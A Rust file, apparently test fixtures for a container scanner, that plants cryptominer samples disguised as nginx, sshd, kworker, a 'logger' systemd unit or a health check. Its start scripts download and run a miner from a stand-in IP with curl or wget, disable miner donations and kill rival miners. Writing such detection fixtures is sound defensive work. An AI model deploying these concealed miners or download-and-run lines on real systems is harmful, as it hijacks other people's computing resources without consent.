//! Miners: as commands, as configuration, as programs.

use crate::group;
use crate::programs::miner;
use crate::shape::{Planted, Shape, malicious, suspicious};
use test_support::wallet::monero;

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "mining",
        vec![
            malicious("command line in the configuration", |s| {
                let wallet = monero(1);
                let program = s.pick("xmrig", "/usr/local/bin/nginx");
                let arguments = s.pick(
                    vec![program, "-o", "203.0.113.7:443", "-u", &wallet, "--tls", "--donate-level=1", "-k"],
                    vec![
                        program,
                        "--url=stratum+ssl://pool.example:3333",
                        "--user",
                        &wallet,
                        "--coin",
                        "monero",
                        "--rig-id",
                        "a",
                    ],
                );
                Planted::alpine().script("usr/local/bin/nginx", miner(s)).cmd(&arguments)
            }),
            malicious("command line with an algorithm and no wallet", |s| {
                Planted::alpine().script("opt/run", miner(s)).entry(s.pick(
                    &[
                        "/opt/run",
                        "-a",
                        "rx/0",
                        "-o",
                        "198.51.100.9:4444",
                        "-u",
                        "worker",
                        "-p",
                        "x",
                        "--cpu-max-threads-hint",
                        "75",
                    ][..],
                    &[
                        "/opt/run",
                        "--algo=cn/r",
                        "--url",
                        "198.51.100.9:443",
                        "--user=worker",
                        "--nicehash",
                        "--no-color",
                    ][..],
                ))
            }),
            malicious("command line in a start script", |s| {
                let wallet = monero(2);
                let line = s.pick(
                format!("/usr/lib/.x/ld -o pool.example:5555 -u {wallet} -p x --donate-level 0 >/dev/null 2>&1 &"),
                format!("P=pool.example:5555\nW={wallet}\n\"/usr/lib/.x/ld\" --url \"$P\" --user \"$W\" --keepalive --tls &"),
            );
                Planted::debian()
                    .script("usr/lib/.x/ld", miner(s))
                    .script("entrypoint.sh", format!("#!/bin/sh\n{line}\nexec \"$@\"\n"))
                    .entry(&["/entrypoint.sh"])
                    .cmd(&["python3", "-m", "http.server"])
            }),
            malicious("configuration file beside the program that reads it", |s| {
                let wallet = monero(3);
                let config = s.pick(
                format!(
                    "{{\"autosave\": true, \"cpu\": {{\"huge-pages\": true}}, \"donate-level\": 1, \"randomx\": {{\"mode\": \"auto\"}},\n\
                     \"pools\": [{{\"url\": \"pool.example:3333\", \"user\": \"{wallet}\", \"keepalive\": true, \"tls\": false}}]}}"
                ),
                format!(
                    "{{ // settings\n \"pools\": [ {{ \"algo\": \"rx/0\", \"url\": \"203.0.113.8:443\", \"user\": \"{wallet}\", \"pass\": \"x\", \"nicehash\": true, }}, ],\n\
                     \"donate-level\": 0, \"donate-level\": 0, \"print-time\": 60, }}"
                ),
            );
                let place = s.pick("opt/m/config.json", "opt/m/settings.dat");
                Planted::debian()
                    .script("opt/m/worker", miner(s))
                    .file(place, config)
                    .entry(&["/opt/m/worker"])
            }),
            malicious("engine under the name of a service", |s| {
                let path = s.pick("usr/local/bin/sshd", "usr/local/sbin/kworker");
                let start = format!("/{path}");
                Planted::debian().script(path, miner(s)).entry(&[&start])
            }),
            malicious("engine started by a Python launcher", |s| {
                let (place, code) = s.pick(
                ("usr/lib/.cache/ld", "import subprocess\nsubprocess.call([\"/usr/lib/.cache/ld\"])\n"),
                ("var/tmp/.d/fc", "import os\nos.system('nohup /var/tmp/.d/fc > /dev/null 2>&1 &')\nimport time\ntime.sleep(1e9)\n"),
            );
                Planted::debian().script(place, miner(s)).file("dao.py", code).entry(&["python3", "/dao.py"])
            }),
            malicious("engine started from a container's health check", |s| {
                let check =
                    s.pick(&["CMD", "/opt/.h/check"][..], &["CMD-SHELL", "/opt/.h/check || true"][..]);
                Planted::debian()
                    .script("opt/.h/check", miner(s))
                    .cmd(&["python3", "-m", "http.server"])
                    .config(|c| c.healthcheck(check))
            }),
            malicious("download of a miner at the start", |s| {
                let wallet = monero(4);
                let script = s.pick(
                format!("#!/bin/sh\ncurl -sL http://198.51.100.20/m.tgz | tar xz -C /tmp\nchmod +x /tmp/m\n/tmp/m -o pool.example:3333 -u {wallet} --donate-level 1\n"),
                format!("#!/bin/bash\nwget -qO /dev/shm/k http://198.51.100.20:8080/k && chmod 777 /dev/shm/k && /dev/shm/k --url pool.example:443 --tls --user {wallet} --keepalive\n"),
            );
                Planted::debian().script("start.sh", script).entry(&["/start.sh"])
            }),
            malicious("build of a miner at the start", |s| {
                let script = s.pick(
                "#!/bin/sh\ngit clone https://git.example/xmrig/xmrig.git /src\ncd /src && sed -i 's/kDefaultDonateLevel = 1/kDefaultDonateLevel = 0/' src/donate.h\nmkdir build && cd build && cmake .. && make\n./xmrig -o 203.0.113.4:3333 -u w -p x --donate-level 0\n",
                "#!/bin/bash\ncd /root; git clone --depth 1 https://git.example/a/cpuminer-multi\ncd cpuminer-multi; ./autogen.sh; ./configure CFLAGS=-O3; make -j$(nproc)\n./cpuminer -a cryptonight -o stratum+tcp://203.0.113.4:3333 -u w -p x\n",
            );
                Planted::debian().script("start.sh", script).entry(&["/start.sh"])
            }),
            malicious("client of a remote miner controller", |s| {
                let words = s.pick(
                    &[
                        "/opt/d",
                        "--cc-url=203.0.113.30:3344",
                        "--cc-access-token=secret",
                        "--cc-worker-id=a",
                        "-o",
                        "pool.example:3333",
                        "-u",
                        "w",
                    ][..],
                    &[
                        "/opt/d",
                        "--cc-url",
                        "https://203.0.113.30:443",
                        "--cc-access-token",
                        "secret",
                        "--url=pool.example:80",
                        "--user=w",
                        "--tls",
                    ][..],
                );
                Planted::debian().script("opt/d", miner(s)).entry(words)
            }),
            malicious("rivals are killed before the own one starts", |s| {
                let script = s.pick(
                "#!/bin/bash\npkill -9 xmrig\npkill -9 kinsing\npkill -9 kdevtmpfsi\npkill -f watchdogd\n/opt/.k/k &\nsleep infinity\n",
                "#!/bin/sh\nfor p in kinsing kdevtmpfsi xmr-stak minerd; do ps aux | grep $p | awk '{print $2}' | xargs kill -9; done\nkillall kinsing kdevtmpfsi\n/opt/.k/k &\nwait\n",
            );
                Planted::debian().script("opt/.k/k", miner(s)).script("run.sh", script).entry(&["/run.sh"])
            }),
            malicious("worker named after the machine's address", |s| {
                let wallet = monero(5);
                let script = s.pick(
                format!("#!/bin/sh\nW=$(curl -s ifconfig.me | tr . _)\n/opt/a -o pool.example:3333 -u {wallet} -p $W --donate-level 1\n"),
                format!("#!/bin/bash\nID=`hostname`\nexec /opt/a --url=pool.example:443 --user={wallet}.$ID --tls --nicehash\n"),
            );
                Planted::debian().script("opt/a", miner(s)).script("start.sh", script).entry(&["/start.sh"])
            }),
            suspicious("machine tuned for mining beside an address", |s| {
                let wallet = monero(6);
                let script = s.pick(
                format!("#!/bin/sh\nsysctl -w vm.nr_hugepages=1280\nmodprobe msr\nwrmsr -a 0x1a4 0xf\nexport ACCOUNT={wallet}\nexec /opt/w\n"),
                format!("#!/bin/bash\necho 1280 > /proc/sys/vm/nr_hugepages\necho 0 > /proc/sys/kernel/nmi_watchdog\nexec /opt/w {wallet}\n"),
            );
                Planted::debian()
                    .script("opt/w", b"#!/bin/sh\nexit 0\n")
                    .script("start.sh", script)
                    .entry(&["/start.sh"])
            }),
            malicious("unit file that starts a miner", |s| {
                let wallet = monero(7);
                let unit = format!(
                    "[Unit]\nDescription=logger\n[Service]\nExecStart={} -o pool.example:3333 -u {wallet} --tls -k\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
                    s.pick("/usr/local/bin/logd", "/usr/lib/.s/sd")
                );
                Planted::debian()
                    .script(s.pick("usr/local/bin/logd", "usr/lib/.s/sd"), miner(s))
                    .file("etc/systemd/system/logd.service", unit)
                    .symlink(
                        "etc/systemd/system/multi-user.target.wants/logd.service",
                        "/etc/systemd/system/logd.service",
                    )
                    .entry(&["/lib/systemd/systemd"])
            }),
        ],
    )
}
